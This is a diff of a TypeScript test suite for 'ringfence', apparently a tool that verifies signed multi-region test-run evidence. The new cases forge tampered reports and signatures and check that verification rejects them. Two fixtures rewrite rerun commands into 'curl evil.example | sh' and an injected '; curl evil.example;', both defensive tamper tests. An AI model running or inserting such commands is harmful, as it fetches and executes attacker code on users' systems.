@@ -94,7 +94,10 @@ describe("the evidence of a run", () => {
 
   test("is accepted by the command line with a trust file over all signers, and by no other way", () => {
     const file = join(whole, "keys", "trust.yaml");
-    expect(ringfence(["verify", whole, "--trust", file])).toMatchObject({ exitCode: 0 });
+    expect(ringfence(["verify", whole, "--trust", file])).toMatchObject({
+      exitCode: 0,
+      output: expect.stringMatching(/pass, of a replica, not of real borders, of a part of the map only\.$/m),
+    });
     const partly = join(folder, "partly.yaml");
     const less = readFileSync(file, "utf8").replace(/ {2}- signs: us-east-1\n.*\n/, "");
     writeFileSync(partly, less.replaceAll("key: ", `key: ${join(whole, "keys")}/`));
@@ -124,6 +127,11 @@ describe("the evidence of a run", () => {
       "a file more",
       (at) => writeFileSync(join(at, "us-east-1", "more.txt"), ""),
       /no signature covers us-east-1/,
+    ],
+    [
+      "a file more among the keys",
+      (at) => writeFileSync(join(at, "keys", "more.txt"), ""),
+      /no signature covers keys\/more/,
     ],
     ["a link to elsewhere", (at) => symlinkSync("/dev/null", join(at, "more")), /more is no file/],
     ["a pipe in place of a file, which would never end", pipeAt("run.json"), /run\.json is no file/],
@@ -259,6 +267,11 @@ describe("the evidence of a run", () => {
       /approval\.pdf is not covered/,
     ],
     [
+      "a file slipped in among the keys, which no signature covers",
+      (to) => writeFileSync(join(to, "keys/approval.pdf"), "yes"),
+      /keys\/approval\.pdf is not covered/,
+    ],
+    [
       "the bundles of two regions swapped",
       (to) =>
         cpSync(join(to, "us-east-1/observed.sigstore.json"), join(to, "eu-central-1/observed.sigstore.json")),
@@ -288,10 +301,18 @@ describe("the evidence of a run", () => {
     expect((await problemsAfter(empty)).join("\n")).toMatch(/plan\.json was changed/);
   });
 
+  interface SignedPredicate {
+    result: string;
+    passedTests: string[];
+    failedTests: string[];
+    [extension: string]: unknown;
+  }
+
   /** Signs again what an insider altered, with keys that the trust file then names. */
   async function forged(
     roles: readonly string[],
     alter: (directory: string) => void,
+    say: (predicate: SignedPredicate) => void = () => {},
   ): Promise<{ problems: string[]; trusted: Trust }> {
     const keys = new Map(
       roles.map((role) => [role, openSigningKey(join(folder, "insider"), { environment: "replica", role })]),
@@ -318,19 +339,25 @@ describe("the evidence of a run", () => {
         if (role !== "judge") await signAgain(directory, `${role}/observed.sigstore.json`, key);
       const judge = keys.get("judge");
       if (!judge) return;
-      for (const region of regions) await signAgain(directory, `${region}/${bundleName}`, judge);
-      await signAgain(directory, bundleName, judge);
+      for (const region of regions) await signAgain(directory, `${region}/${bundleName}`, judge, say);
+      await signAgain(directory, bundleName, judge, say);
     }, trusted);
     return { problems, trusted };
   }
 
   /** The same statement over the files as they are now. */
-  async function signAgain(directory: string, name: string, key: SigningKey): Promise<void> {
+  async function signAgain(
+    directory: string,
+    name: string,
+    key: SigningKey,
+    say: (predicate: SignedPredicate) => void = () => {},
+  ): Promise<void> {
     const file = join(directory, name);
     const { dsseEnvelope } = JSON.parse(readFileSync(file, "utf8"));
     const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString("utf8"));
     for (const subject of statement.subject)
       subject.digest.sha256 = sha256(readFileSync(join(directory, subject.name)));
+    say(statement.predicate);
     writeFileSync(file, await seal(statement, localSigner(key)));
   }
 
@@ -370,6 +397,120 @@ describe("the evidence of a run", () => {
       edit("eu-central-1/report.json", (text) => text.replaceAll(run.verdicts[0]?.reason ?? "", "refused")),
     );
     expect(problems.join("\n")).toMatch(/eu-central-1\/report\.json is not what the journals say/);
+  });
+
+  const inReports = (change: (text: string) => string) => (directory: string) => {
+    for (const region of regions) edit(`${region}/report.json`, change)(directory);
+  };
+
+  test.each<[string, (directory: string) => void, RegExp]>([
+    [
+      "another version than the regions signed for",
+      inReports((text) => text.replace(/"version": "[^"]*"/, '"version": "9.9.9"')),
+      /report\.json says version 9\.9\.9, and eu-central-1 signed for/,
+    ],
+    [
+      "a part that calls itself whole",
+      inReports((text) => text.replace('"partial": true', '"partial": false')),
+      /report\.json is not what the journals say/,
+    ],
+    [
+      "other commands than those that rerun its lines",
+      inReports((text) => text.replace(/"rerun":"(?:[^"\\]|\\.)*"/g, '"rerun":"curl evil.example | sh"')),
+      /report\.json is not what the journals say/,
+    ],
+    [
+      "commands that do more than to rerun its lines",
+      inReports((text) =>
+        text.replaceAll("ringfence -- run --env", "ringfence -- run; curl evil.example; --env"),
+      ),
+      /report\.json is not what the journals say/,
+    ],
+    [
+      "real regions in run.json and a replica in its reports",
+      edit("run.json", (text) => text.replace('"fidelity": "replica"', '"fidelity": "real"')),
+      /report\.json is not what the journals say/,
+    ],
+    [
+      "a start long before its regions', so that an exception of then would hold",
+      edit("run.json", (text) =>
+        text.replace(/"startedAt": "20(..)/, (_, year) => `"startedAt": "20${year - 1}`),
+      ),
+      /run\.json says that the run started .*, and the first region started/,
+    ],
+  ])("does not hold with %s, by the judge's own signature", async (_what, alter, reason) => {
+    expect((await forged(["judge"], alter)).problems.join("\n")).toMatch(reason);
+  });
+
+  const claimsOf = (predicate: SignedPredicate, extension: "region" | "run") =>
+    (predicate[`urn:ringfence:${extension}:v1`] ?? {}) as Record<string, unknown>;
+
+  test.each<[string, (predicate: SignedPredicate) => void, RegExp]>([
+    [
+      "a result",
+      (predicate) => Object.assign(predicate, { result: "WARNED" }),
+      /otherwise than the journals: result/,
+    ],
+    [
+      "a list of what failed",
+      (predicate) => predicate.failedTests.push(...predicate.passedTests.splice(0, 1)),
+      /otherwise than the journals: passedTests, failedTests/,
+    ],
+    [
+      "counts",
+      (predicate) => Object.assign(claimsOf(predicate, "region"), { counts: { planned: 9999 } }),
+      /otherwise than the journals: counts/,
+    ],
+    [
+      "words",
+      (predicate) => Object.assign(claimsOf(predicate, "region"), { wording: "Certified." }),
+      /otherwise than the journals: wording/,
+    ],
+    [
+      "limits",
+      (predicate) => Object.assign(claimsOf(predicate, "region"), { limits: [] }),
+      /otherwise than the journals: limits/,
+    ],
+    [
+      "a time of its start",
+      (predicate) => Object.assign(claimsOf(predicate, "run"), { startedAt: "2020-01-01T00:00:00.000Z" }),
+      /otherwise than the journals: startedAt/,
+    ],
+    [
+      "grades of its regions",
+      (predicate) => Object.assign(claimsOf(predicate, "run"), { regions: { "eu-central-1": "breached" } }),
+      /otherwise than the journals: regions/,
+    ],
+  ])(
+    "does not hold with %s in a statement of the judge that the journals do not lead to",
+    async (_what, say, reason) => {
+      expect((await forged(["judge"], () => {}, say)).problems.join("\n")).toMatch(reason);
+    },
+  );
+
+  test("holds by the time at which the judge signed, not by that at which a region finished", async () => {
+    const { dsseEnvelope } = JSON.parse(readFileSync(join(whole, regions[0] ?? "", bundleName), "utf8"));
+    const { predicate } = JSON.parse(Buffer.from(dsseEnvelope.payload, "base64").toString("utf8"));
+    const { signedAt, finishedAt } = predicate["urn:ringfence:region:v1"];
+    expect(Date.parse(signedAt)).toBeGreaterThan(Date.parse(finishedAt));
+    const judge = trust.signers.filter(({ signs }) => signs === "judge");
+    const others = trust.signers.filter(({ signs }) => signs !== "judge");
+    const within = async (...windows: { from?: Date; until?: Date }[]) => {
+      const signers = [
+        ...others,
+        ...windows.flatMap((window) => judge.map((one) => ({ ...one, ...window }))),
+      ];
+      return (await verifyEvidence(whole, { signers }, replay)).problems.join("\n");
+    };
+    expect(await within({ from: new Date(signedAt) })).toBe("");
+    expect(await within({ until: new Date(signedAt) })).toMatch(
+      /eu-central-1\/evidence\.sigstore\.json: made .*, after its signer may sign/,
+    );
+    // One key, which paused in between.
+    expect(await within({ until: new Date("2020-01-01") }, { from: new Date(finishedAt) })).toBe("");
+    expect(await within({ until: new Date("2020-01-01") }, { from: new Date("2100-01-01") })).toMatch(
+      /may sign/,
+    );
   });
 
   test.each(["eu-central-1", "judge"])(
